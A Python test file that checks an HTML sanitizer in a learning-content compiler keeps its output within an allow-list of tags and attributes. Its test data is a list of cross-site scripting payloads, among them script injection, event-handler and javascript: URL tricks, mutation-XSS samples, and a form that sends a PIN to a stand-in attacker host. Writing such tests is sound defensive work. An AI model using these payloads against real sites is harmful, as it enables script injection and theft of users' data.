"""Nothing outside the allow-list ever leaves the compiler, whatever goes in."""

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from score_learn.core.compiler.prose import (
    ATTRIBUTES,
    INLINE,
    TAGS,
    VALUES,
    clean,
    render,
    render_inline,
    render_plain,
    rendered_inline,
    shielded,
)

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="//evil.example/a.svg" alt="">',
    '<img src="https://evil.example/a.svg">',
    '<img src="/pictures/../static/a.svg">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<img src="/pictures/0123456789abcdef.svg" onload="alert(1)" style="width:9000px">',
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="javascript:123">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="/learn/1/hand-in">x</a>',
    '<a href="https://a.example" target="_top" onclick="alert(1)" ping="https://b.example">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<style>@import "https://evil.example/a.css";</style>',
    '<link rel="stylesheet" href="https://evil.example/a.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example"><input name="pin"><button>Send</button></form>',
    '<p style="background:url(javascript:alert(1))" class="notice" id="main">x</p>',
    '<ul class="checklist key primary"><li>x</li></ul>',
    '<ol start="1" onfocus="alert(1)" reversed><li>x</li></ol>',
    '<video src="https://evil.example/a.mp4" autoplay></video><audio src="x"></audio>',
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=`x` onerror=alert(1)//",
    "<a href='https://a.example' title='&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;'>x</a>",
    "<textarea></textarea><script>alert(1)</script>",
    "<select><option><script>alert(1)</script></select>",
    "<xmp><script>alert(1)</script></xmp><plaintext>",
    "\x00<script\x00>alert(1)</script>",
    "<scr\x02ipt>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,x)",
    '![x](https://evil.example/a.png "t")',
    '[x](https://a.example "onclick=alert(1)")',
    "<javascript:alert(1)>",
    "`<script>alert(1)</script>`",
    "**<b onclick=alert(1)>x**</b>",
    "| <script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "> <iframe>\n\n- <svg/onload=alert(1)>",
    "{{ 7*7 }} ${7*7} <%= 7*7 %> #{7*7}",
]


class Reader(HTMLParser):
    """Collects every tag and attribute of a page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.seen: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.odd: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, attrs))

    def handle_comment(self, data: str) -> None:
        self.odd.append(data)

    handle_decl = unknown_decl = handle_pi = handle_comment


def assert_within(html: str, tags: frozenset[str]) -> None:
    reader = Reader()
    reader.feed(html)
    reader.close()
    assert not reader.odd
    for tag, attributes in reader.seen:
        assert tag in tags
        for name, value in attributes:
            if (tag, name) == ("a", "rel"):
                assert value == "noopener noreferrer"
                continue
            assert name in ATTRIBUTES.get(tag, ()), (tag, name)
            pattern = VALUES.get((tag, name))
            assert pattern is None or pattern.fullmatch(value or ""), (tag, name, value)


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("tags", [TAGS, INLINE], ids=["blocks", "inline"])
def test_an_attack_leaves_nothing_outside_the_allow_list(attack: str, tags: frozenset[str]) -> None:
    for frame in ("{}", "<p>{}</p>", "<table><tr><td>{}", "<b><i>{}"):
        assert_within(clean(frame.format(attack), tags), tags)
    assert_within(render(attack, tags), tags)


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_in_a_choice_or_title_is_words(attack: str) -> None:
    assert_within(render_inline(attack), INLINE)
    assert_within(render(shielded(" ".join(attack.split()))), TAGS)
    assert isinstance(render_plain(attack), str)


@given(st.text(alphabet=st.sampled_from("<>\"'=/ab&;:()[]!-`*{}\\ \n#x3"), max_size=120))
@settings(max_examples=400, deadline=None)
def test_no_text_leaves_the_allow_list(text: str) -> None:
    assert_within(clean(text), TAGS)
    assert_within(render(text), TAGS)
    assert_within(render_inline(text), INLINE)


@pytest.mark.parametrize("attack", ATTACKS)
def test_cleaning_twice_changes_nothing(attack: str) -> None:
    once = clean(attack)
    assert clean(once) == once


def test_what_is_allowed_stays() -> None:
    whole = (
        '<p>a <strong>b</strong> <em>c</em> <code>d</code><br></p>\n<ul class="checklist">\n<li>e</li>\n'
        '</ul>\n<ol start="3">\n<li>f</li>\n</ol>\n<blockquote>\n<p>g</p>\n</blockquote>\n'
        '<p><img src="/pictures/0123456789abcdef.svg" alt="h" width="3" height="4">'
        '<a href="tel:+911" rel="noopener noreferrer">i</a></p>'
    )
    assert clean(whole) == whole


@pytest.mark.parametrize(
    "words", ["# a", "1. a", "- a", "+ a", "* a", "> a", "---", "***", "-", "12. a"]
)
def test_words_that_look_like_blocks_stay_words(words: str) -> None:
    assert render_plain(words) == words
    assert render(shielded(words)).startswith("<p>")


def test_bold_words_at_the_beginning_stay_bold() -> None:
    assert render_inline("**Hi** *there* -not") == "<strong>Hi</strong> <em>there</em> -not"


@given(
    st.text(
        alphabet=st.one_of(
            st.sampled_from("ab1. -+,:;?!()'\"%/=*_`&<\\[]\u200d\u200b\u2028"),
            st.characters(codec="utf-8"),
        ),
        max_size=40,
    )
)
@settings(max_examples=1000, deadline=None)
def test_words_without_marks_are_what_the_long_way_makes_of_them(words: str) -> None:
    assert render_inline(words) == rendered_inline(words)


@pytest.mark.parametrize(
    "words",
    [
        "1. Stop",
        "12) Wait",
        "- one",
        "a  b ",
        '"Stop!" she said.',
        "मशीन बंद करें।",
        "先停机，再清理。",
    ],
)
def test_plain_words_in_any_script_stay_as_they_are(words: str) -> None:
    assert render_inline(words) == rendered_inline(words) == words.strip()
